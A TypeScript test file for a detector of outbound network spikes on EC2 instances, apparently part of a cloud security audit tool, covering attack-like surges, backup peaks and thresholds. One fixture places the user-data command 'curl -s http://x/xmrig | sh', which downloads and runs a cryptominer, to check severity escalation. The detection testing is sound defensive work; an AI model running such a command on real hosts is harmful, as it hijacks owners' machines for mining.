import { describe, expect, it } from 'vitest';
import { detector } from '../../src/detectors/network-spike.js';
import type { AuditData, MetricName, MetricSeries } from '../../src/providers/types.js';
import type { Finding } from '../../src/detectors/types.js';
import { NOW, emptyAccount, hoursAgo, instance, run, series } from './fixtures.js';

const MB = 1024 * 1024;
const PER_HOUR = 12;

/**
 * 5-minute Sum datapoints for `historyHours` then the last hour before NOW; `history(k)` and
 * `recent(k)` give MB per datapoint; `k` counts from the series start.
 */
function net(id: string, historyHours: number, history: (k: number) => number, recent: number, o: { metric?: MetricName; region?: string } = {}): MetricSeries {
  const n = (historyHours + 1) * PER_HOUR;
  const values = Array.from({ length: n }, (_, k) => (k >= n - PER_HOUR ? recent : history(k)) * MB);
  return series(id, o.metric ?? 'NetworkOut', hoursAgo(historyHours + 1), 300, values, o.region);
}

/** A nightly backup: 100 MB per 5 minutes for one hour every 24 hours, 10 MB otherwise; the last hour of the series is backup time. */
const backup = (historyHours: number) => (k: number): number => ((historyHours * PER_HOUR - k) % (24 * PER_HOUR) < PER_HOUR && k < historyHours * PER_HOUR - PER_HOUR ? 100 : 10);

function account(metrics: MetricSeries[], extra: Partial<AuditData> = {}): AuditData {
  const data = emptyAccount(extra);
  data.metrics = metrics;
  return data;
}

interface Case {
  name: string;
  data: () => AuditData;
  options?: Record<string, unknown>;
  expect: (findings: Finding[]) => void;
}

const cases: Case[] = [
  {
    name: 'attack: outbound traffic six times its own baseline',
    data: () => account([net('i-00000000000spike', 48, () => 10, 60)]),
    expect: (findings) => {
      expect(findings).toHaveLength(1);
      const f = findings[0] as Finding;
      expect(f.severity).toBe('medium');
      expect(f.resources).toEqual([{ type: 'AWS::EC2::Instance', id: 'i-00000000000spike', region: 'us-east-1' }]);
      const metric = (f.evidence.instances as { metrics: Record<string, unknown>[] }[])[0]?.metrics[0];
      expect(metric).toMatchObject({ metric: 'NetworkOut', swingPercent: 500, recentMBPerHour: 720, datapoints: { recent: 12, baseline: 576 } });
      expect(f.firstSeen).toBe(new Date(NOW - 3_600_000).toISOString());
    },
  },
  {
    name: 'a tenfold jump is high, and both directions are listed under one instance',
    data: () => account([net('i-00000000000spike', 48, () => 10, 150), net('i-00000000000spike', 48, () => 10, 50, { metric: 'NetworkIn' })]),
    expect: (findings) => {
      expect(findings.map((f) => f.severity)).toEqual(['high']);
      const instances = findings[0]?.evidence.instances as { metrics: { metric: string }[] }[];
      expect(instances).toHaveLength(1);
      expect(instances[0]?.metrics.map((m) => m.metric)).toEqual(['NetworkOut', 'NetworkIn']);
    },
  },
  {
    name: 'mining strings in user data make a plain swing high',
    data: () => account([net('i-00000000000miner', 48, () => 10, 50)], {
      ec2: { instances: [instance({ id: 'i-00000000000miner', userData: 'curl -s http://x/xmrig | sh' })], securityGroups: [] },
    }),
    expect: (findings) => expect(findings.map((f) => f.severity)).toEqual(['high']),
  },
  {
    name: 'benign: steady traffic',
    data: () => account([net('i-00000000000steady', 48, (k) => 10 + (k % 5), 12)]),
    expect: (findings) => expect(findings).toEqual([]),
  },
  {
    name: 'benign: the nightly backup peak that the history already holds',
    data: () => account([net('i-00000000000backup', 72, backup(72), 100)]),
    expect: (findings) => expect(findings).toEqual([]),
  },
  {
    name: 'traffic well above even the backup peak is flagged',
    data: () => account([net('i-00000000000backup', 72, backup(72), 400)]),
    expect: (findings) => expect(findings).toHaveLength(1),
  },
  {
    name: 'benign: a tiny instance swinging tenfold on kilobytes',
    data: () => account([net('i-000000000000tiny', 48, () => 0.01, 0.1)]),
    expect: (findings) => expect(findings).toEqual([]),
  },
  {
    name: 'an instance with too little history is not judged',
    data: () => account([net('i-0000000000000new', 6, () => 10, 100)]),
    expect: (findings) => expect(findings).toEqual([]),
  },
  {
    name: 'one finding per region; instances without history are counted as not judged',
    data: () => account([
      net('i-000000000000east', 48, () => 10, 80),
      net('i-000000000000west', 48, () => 10, 80, { region: 'eu-west-1' }),
      net('i-0000000000000new', 6, () => 10, 100, { region: 'eu-west-1' }),
    ]),
    expect: (findings) => {
      expect(findings.map((f) => [f.region, f.resources.length, f.evidence.notJudgedTooLittleHistory]).sort()).toEqual([['eu-west-1', 1, 1], ['us-east-1', 1, 0]]);
    },
  },
  {
    name: 'the swing threshold is configurable',
    data: () => account([net('i-00000000000spike', 48, () => 10, 60)]),
    options: { swingPercent: 600 },
    expect: (findings) => expect(findings).toEqual([]),
  },
];

describe('network-spike', () => {
  it.each(cases)('$name', (c) => c.expect(run(detector, c.data(), c.options)));
});
